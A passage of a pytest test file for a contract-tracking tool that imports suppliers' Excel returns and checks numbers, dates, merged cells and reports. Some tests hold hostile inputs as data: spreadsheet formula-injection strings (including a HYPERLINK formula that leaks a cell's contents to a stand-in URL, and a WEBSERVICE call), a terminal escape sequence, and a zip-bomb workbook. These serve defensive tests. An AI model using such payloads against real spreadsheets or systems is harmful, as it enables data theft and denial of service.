    before = tmp_path / "before"
    assert track(capsys, "report", "--quarter", "2027-28", "-o", str(before), "--db", db,
                 today="2029-06-01")[0] == 0
    assert not list(before.glob("contract-*"))
    code, _, err = track(capsys, "report", "--quarter", "2028-30", "-o", str(before), "--db", db)
    assert code == 2 and "--quarter" in err and "follow the first" in err
    code, _, err = track(capsys, "report", "--quarter", "2099-00", "-o", str(before), "--db", db)
    assert code == 2 and "2099-00 has not started yet" in err
    # a period not over yet is reported, marked provisional
    early = tmp_path / "early"
    assert track(capsys, "report", "--quarter", "2028-29", "-o", str(early), "--db", db,
                 today="2029-03-01")[0] == 0
    assert "(provisional)" in _docx_text(early / "rollup-2028-29.docx")


def _csv_rows(path: Path) -> list[dict[str, str]]:
    import csv

    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_migration_keeps_calendar_quarter_returns_meaning_what_they_meant(db: str) -> None:
    """A register at revision 0002 with a calendar-quarter return: after the upgrade the contract
    still reports by calendar quarter and the return's last day is filled in."""
    from sqlalchemy import text

    engine = _old_register(trackdb.resolve_url(db), "0002", end_date="2027-11-15")
    with engine.begin() as conn:
        conn.execute(text(
            "INSERT INTO returns (id, contract_id, quarter, revision, superseded, digest, "
            "source_file, submitted_by, received_at) VALUES (1, 1, '2027-Q4', 1, FALSE, 'x', 'f', "
            "'me', '2027-12-01 09:00:00')"))
    engine.dispose()
    reg = trackdb.open_register(db)
    try:
        data = export_register(reg)["tables"]
    finally:
        reg.close()
    assert data["contracts"][0]["periods"] == "calendar"
    assert data["contracts"][0]["nation"] == "england"
    assert data["returns"][0]["period_end"] == "2027-11-15"  # cut short by the contract's end


# -- workbooks people really send ----------------------------------------------------------------

def test_formulas_dates_decimal_commas_and_merged_cells_are_named_and_change_nothing(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes) -> None:
    from datetime import datetime

    db = str(tmp_path / "r.sqlite")
    added(capsys, db, tmp_path, commitments_blank)
    good = returned(capsys, db, tmp_path, "Y1Q1")
    wb = load_workbook(good)
    ws = wb["Return"]
    ws["E2"] = "=D2*1.1"          # a formula no program has calculated: no saved result
    ws["E3"] = datetime(2028, 4, 1)  # Excel turned 1.4 into a date
    ws["E4"] = "12,5"             # a decimal comma: never read as 125
    ws["E5"] = "#DIV/0!"          # a formula's saved error
    ws.merge_cells("G5:G6")       # one narrative spread over two rows
    bad = tmp_path / "bad.xlsx"
    wb.save(bad)
    before = _export(db)
    code, _, err = track(capsys, "import", str(bad), "--db", db)
    assert code == 2
    assert "sheet `Return`, row 2, column E (Actual): holds a formula (`=D2*1.1`) with no " \
           "saved result" in err
    assert "row 3, column E (Actual): is a date or time (2028-04-01 00:00:00), not a number" in err
    assert "row 4, column E (Actual): `12,5` uses a comma for decimals; write decimals with a " \
           "point (12.5)" in err
    assert "row 5, column E (Actual): the formula in this cell gives an error (#DIV/0!)" in err
    assert "row 5, column G (Narrative): cells G5:G6 are merged" in err
    assert _export(db) == before


@pytest.mark.parametrize(("raw", "expected"), [
    ("1,234", 1234.0), ("£1,250,000", 1250000.0), ("12.5%", 12.5), (".5", 0.5), ("7", 7.0),
    ("1,2,3", "`1,2,3` is not a number"), ("12,5", "write decimals with a point (12.5)"),
    ("0,250", "`0,250` uses a comma for decimals"),
    ("1e400", "`1e400` is not a number"), ("£", "`£` is not a number"),
    ("-", "`-` is not a number"), ("1,2345", "`1,2345` is not a number"),
])
def test_numbers_in_cells(raw: str, expected: float | str) -> None:
    from svauthor.tracking.workbook import _number

    got = _number(raw)
    if isinstance(expected, float):
        assert got == expected
    else:
        assert isinstance(got, str) and expected in got


def test_fte_can_pass_100_but_a_percentage_cannot() -> None:
    from svauthor.tracking.workbook import check_line

    levels = load_tracking_rules().profile.level_units
    line, issues = check_line("NT1", 150, "payroll.pdf", "", unit="fte", level_units=levels)
    assert line is not None and issues == []
    line, issues = check_line("NT41", 101, "spend.pdf", "", unit="percent", level_units=levels)
    assert line is None and issues == [("Actual", "a percentage cannot be more than 100")]
    line, issues = check_line("NT14", 1e13, "x", "", unit="gbp", level_units=levels)
    assert line is None and "too large" in issues[0][1]
    # 0.85 in a percentage cell is Excel's 85% with its format lost: asked, never read as 0.85%.
    line, issues = check_line("NT41", 0.85, "payroll.pdf", "", unit="percent", level_units=levels)
    assert line is None and issues == [("Actual", "`0.85` looks like a fraction: did you mean "
                                        "85%? Write 85 or 85% (type the percentage as a number "
                                        "from 0 to 100)")]
    for ok in (0, 1, 85):
        line, issues = check_line("NT41", ok, "x.pdf", "", unit="percent", level_units=levels)
        assert line is not None and line.actual == ok and issues == []
    line, issues = check_line("NT1", 0.5, "x.pdf", "", unit="fte", level_units=levels)
    assert line is not None and issues == []  # half a post is a real figure


def test_a_fractional_percentage_target_is_named_by_sheet_row_and_column(
        tmp_path: Path, commitments_blank: bytes, assessment: Assessment) -> None:
    import dataclasses

    from svauthor.tracking.workbook import measure_row, read_commitments

    path = fill_commitments(commitments_blank, tmp_path / "bid.xlsx", target=0.4, baseline=None)
    known = {m.ref: measure_row(m) for m in assessment.measures
             if m.status in ("recommended", "optional")}
    first = str(load_workbook(path)["Commitments"].cell(row=2, column=1).value)
    known[first] = dataclasses.replace(known[first], unit="percent")
    with pytest.raises(InputError) as err:
        read_commitments(path, known=known, years=3,
                         level_units=load_tracking_rules().profile.level_units)
    problems = err.value.problems
    ws = load_workbook(path)["Commitments"]
    header = [c.value for c in ws[1]]
    rows = [r for r in range(2, ws.max_row + 1)
            if (ref := str(ws.cell(row=r, column=1).value)) in known
            and known[ref].unit == "percent"]
    assert 2 in rows
    assert {p.field for p in problems} == {
        f"sheet `Commitments`, row {r}, column {get_column_letter(header.index(f'Year {y}') + 1)} "
        f"(Year {y})" for r in rows for y in (1, 2, 3)}, problems
    assert all("`0.4` looks like a fraction: did you mean 40%?" in p.message for p in problems)


def test_absurd_targets_and_merged_cells_in_a_bid_are_refused(tmp_path: Path,
                                                              commitments_blank: bytes,
                                                              assessment: Assessment) -> None:
    from svauthor.tracking.workbook import measure_row, read_commitments

    path = fill_commitments(commitments_blank, tmp_path / "bid.xlsx")
    wb = load_workbook(path)
    ws = wb["Commitments"]
    header = [c.value for c in ws[1]]
    year1 = header.index("Year 1") + 1
    ws.cell(row=2, column=year1, value=5e12)
    ws.merge_cells(start_row=3, start_column=year1, end_row=4, end_column=year1)
    wb.save(path)
    known = {m.ref: measure_row(m) for m in assessment.measures
             if m.status in ("recommended", "optional")}
    with pytest.raises(InputError) as err:
        read_commitments(path, known=known, years=3,
                         level_units=load_tracking_rules().profile.level_units)
    text = str(err.value)
    col = get_column_letter(year1)
    assert f"row 2, column {col} (Year 1): 5e+12 is too large to be right" in text
    assert f"row 3, column {col} (Year 1): cells {col}3:{col}4 are merged" in text


@pytest.mark.parametrize(("flag", "value", "message"), [
    ("--award-date", "29/02/2027", "February 2027 has 28 days"),
    ("--award-date", "2027-13-01", "there is no month 13"),
    ("--start", "next spring", "is not a date"),
])
def test_impossible_dates_for_a_contract_are_named(capsys: pytest.CaptureFixture[str],
                                                   tmp_path: Path, flag: str, value: str,
                                                   message: str) -> None:
    args = {"--award-date": "1 July 2027", "--start": "01/10/2027"} | {flag: value}
    code, _, err = track(capsys, "add", str(SPEC), "--supplier", "X", "--commitments",
                         str(tmp_path / "none.xlsx"), "--db", str(tmp_path / "r.sqlite"),
                         *[x for kv in args.items() for x in kv])
    assert code == 2 and flag in err and message in err


@pytest.mark.parametrize(("flag", "value", "message"), [
    ("--supplier", "Evil\x1b]0;pwned\x07Corp", "contains a control character"),
    ("--reference", "=cmd|x", "start it with a letter or digit"),
    ("--reference", "@SUM(A1)", "start it with a letter or digit"),
])
def test_text_a_spreadsheet_or_terminal_would_run_is_refused_at_add(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes, flag: str,
        value: str, message: str) -> None:
    db = str(tmp_path / "r.sqlite")
    track(capsys, "init", "--db", db)
    bid = fill_commitments(commitments_blank, tmp_path / "bid.xlsx")
    args = {"--supplier": "Mersey Minds CIC", "--reference": "REF-1"} | {flag: value}
    code, _, err = track(capsys, "add", str(SPEC), "--award-date", "2027-07-01",
                         "--commitments", str(bid), "--db", db,
                         *[x for kv in args.items() for x in kv])
    assert code == 2 and flag in err and message in err
    assert "\x1b" not in err


def test_report_csvs_never_hold_a_live_formula(capsys: pytest.CaptureFixture[str],
                                               tmp_path: Path) -> None:
    from svauthor.tracking.report import _csv

    text = _csv(["supplier", "n"], [['=HYPERLINK("http://x/?"&A1,"x")', 3], ["+1", -2],
                                    ["@SUM(A1)", 0], ["Age Well", 1]])
    import csv

    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert [r[0][0] for r in rows[:3]] == ["'", "'", "'"] and rows[3][0] == "Age Well"
    assert rows[1][1] == "-2"  # numbers stay numbers


def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    import time
    import zipfile as zf

    from svauthor.tracking.workbook import read_return

    bomb = tmp_path / "bomb.xlsx"
    with zf.ZipFile(bomb, "w", compression=zf.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"<" + b" " * 21_000_000 + b"/>")
    assert bomb.stat().st_size < 1_000_000
    started = time.process_time()
    with pytest.raises(InputError, match="would unpack to 21,000,011 bytes in 2 parts"):
        read_return(bomb)
    assert time.process_time() - started < 1.0


def test_the_return_says_what_actual_means_for_each_kind_of_measure() -> None:
    from svauthor.tracking.workbook import MeasureRow, returns_workbook

    rows = [(MeasureRow("NT3", "Posts", "fte", "FTE"), 2.0),
            (MeasureRow("NT41", "Paid the Real Living Wage", "percent", "%"), 90.0),
            (MeasureRow("NT14", "VCSE spend", "gbp", "£"), 5000.0)]
    wb = load_workbook(io.BytesIO(returns_workbook(
        contract_ref="C1", title="T", supplier="S", quarter="Y1Q1", quarter_label="Year 1",
        due="14 January 2028", rows=rows,
        level_units=load_tracking_rules().profile.level_units)))
    text = " ".join(str(c.value) for row in wb["Instructions"].iter_rows() for c in row if c.value)
    assert "NT3: the full-time equivalent posts in place at the end of the quarter" in text
    assert "NT41: the percentage at the end of the quarter" in text
    assert "NT14: the amount delivered in this quarter only" in text


def test_the_roll_up_compares_reporting_contracts_and_adds_posts_across_contracts() -> None:
    from svauthor.tracking.report import MeasureTotal, _add

    totals: dict[str, MeasureTotal] = {}
    # three contracts with 2 FTE each; one reports 3 posts, two have sent nothing yet
    _add(totals, "NT3", "NT3", "Posts", "fte", False, 2.0, 3.0, 2.0, None)
    _add(totals, "NT3", "NT3", "Posts", "fte", False, 2.0, None, None, None)
    _add(totals, "NT3", "NT3", "Posts", "fte", False, 2.0, None, None, None)
    posts = totals["NT3"]
    assert (posts.reported, posts.commitments) == (1, 3)
    assert (posts.shown_target, posts.shown_actual, posts.shown_target_all) == (2.0, 3.0, 6.0)
    # percentages average across contracts
    _add(totals, "NT41", "NT41", "RLW", "percent", True, 90.0, 80.0, 90.0, None)
    _add(totals, "NT41", "NT41", "RLW", "percent", True, 90.0, 100.0, 90.0, None)
    assert (totals["NT41"].shown_target, totals["NT41"].shown_actual) == (90.0, 90.0)


def test_the_kpi_schedule_and_the_register_rate_a_year_the_same_way() -> None:
    """A quarter below target made up the next quarter: the year so far is met, as the KPI
    schedule (part of the contract) says it will be."""
    from svauthor.tracking.models import Commitment, Target
    from svauthor.tracking.register import Profile, commitment_status

    rules = load_tracking_rules()
    m = Commitment(id=1, measure_ref="NT15", measure_text="Hours", unit="hours",
                   partner_vcfse=False, baseline=None, targets=[Target(year=1, target=40.0)])
    profile = Profile.of(date(2027, 10, 1), date(2028, 9, 30))
    q1, q2 = profile.periods[0], profile.periods[1]
    actuals = {"Y1Q1": {1: 8.0}, "Y1Q2": {1: 12.0}}  # 80%, then 120% of 10 a quarter
    assert commitment_status(m, profile, q1, actuals, rules).ytd_rating == "requires_improvement"
    assert commitment_status(m, profile, q2, actuals, rules).ytd_rating == "good"
    text = (ROOT / "templates" / "text" / "kpi_ratings.j2").read_text(encoding="utf-8")
    assert "made up later in the year" in text and "lowest of its quarters" not in text
    assert "made up later in the year" in rules.profile.why


def test_another_contracts_return_is_never_imported_as_a_correction(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes) -> None:
    db = str(tmp_path / "r.sqlite")
    added(capsys, db, tmp_path, commitments_blank)
    good = returned(capsys, db, tmp_path, "Y1Q1")
    wb = load_workbook(good)
    about = wb["About"]
    row = next(r for r in about.iter_rows() if r[0].value == "supplier")
    row[1].value = "Big Co"  # a return made for another supplier's contract, pointed at this one
    cross = tmp_path / "cross.xlsx"
    wb.save(cross)
    before = _export(db)
    code, _, err = track(capsys, "import", str(cross), "--db", db)
    assert code == 2 and "was made for supplier `Big Co`" in err and "Mersey Minds CIC" in err
    assert _export(db) == before


def test_an_award_after_the_contract_start_names_the_award_date(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes) -> None:
    """FINDINGS R28: with no --start given, the message names --award-date, not --start."""
    db = str(tmp_path / "register.sqlite")
    commitments = fill_commitments(commitments_blank, tmp_path / "bid.xlsx")
    assert track(capsys, "init", "--db", db)[0] == 0
    code, _, err = track(capsys, "add", str(SPEC), "--supplier", "Mersey Minds CIC",
                         "--award-date", "2031-01-01", "--commitments", str(commitments),
                         "--db", db)
    assert code == 2 and err.startswith("error: --award-date: the contract starts on 2027-10-01"), err


_FORMULA_TEXT = ['=cmd|x', '+SUM(1,2)', '-2+3', '@WEBSERVICE("http://127.0.0.1:9/")',
                 '=HYPERLINK("http://127.0.0.1:9/","x")']


def _formula_cells(data: bytes) -> list[str]:
    """Every formula cell of a workbook, re-opened from its bytes, by sheet and coordinate."""
    wb = load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


@pytest.mark.parametrize("text", _FORMULA_TEXT)
def test_user_text_in_a_workbook_is_never_a_live_formula(text: str, tmp_path: Path) -> None:
    """R51: a title, lot, supplier, reference or measure text starting with =, +, - or @ is
    stored as text, so Excel shows it and never runs it; the only formulas are the writer's own."""
    from svauthor.tracking.workbook import (
        MeasureRow,
        commitments_workbook,
        lot_instruction,
        read_return,
        returns_workbook,
    )

    measure = MeasureRow("NT1", text, "number", "number of people")
    spare = MeasureRow("NT2", text, "number", "number of people")
    bid = commitments_workbook(title=text, buyer=text, years=2, measures=[measure],
                               optional=[spare], level_units=["percent"],
                               lot_line=lot_instruction(text, 3), draft=True)
    # The writer's own formulas: row 2's total, and the spare rows' lookups and totals.
    assert all(c.startswith("Commitments!") for c in _formula_cells(bid))
    wb = load_workbook(io.BytesIO(bid))
    about = {str(r[0].value): r[1] for r in wb["About"].iter_rows()}
    assert about["title"].value == text and about["title"].data_type == "s"
    assert about["title"].quotePrefix
    assert wb["Commitments"]["B2"].value == text and wb["Commitments"]["B2"].data_type == "s"
    assert wb["Lists"]["B1"].value == text and wb["Lists"]["B1"].data_type == "s"
    assert "Commitments!H2" in _formula_cells(bid)  # the total still works itself out

    ret = returns_workbook(contract_ref=text, title=text, supplier=text, quarter="Y1Q1",
                           quarter_label=text, due="1 May 2028", rows=[(measure, 3.0)],
                           level_units=["percent"])
    assert _formula_cells(ret) == []
    path = tmp_path / "return.xlsx"
    path.write_bytes(ret)
    entry, _, problems = read_return(path)
    assert problems == []
    assert (entry.contract_ref, entry.supplier, entry.title) == (text, text, text)


@pytest.mark.parametrize("supplier", _FORMULA_TEXT)
def test_a_supplier_a_spreadsheet_would_run_is_refused_at_add(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes,
        supplier: str) -> None:
    db = str(tmp_path / "r.sqlite")
    track(capsys, "init", "--db", db)
    bid = fill_commitments(commitments_blank, tmp_path / "bid.xlsx")
    code, _, err = track(capsys, "add", str(SPEC), "--award-date", "2027-07-01",
                         "--commitments", str(bid), "--db", db, f"--supplier={supplier}",
                         "--reference", "HW2")
    assert code == 2 and "--supplier" in err and "run as a formula" in err
    assert "HW2" not in json.dumps(_export(db))
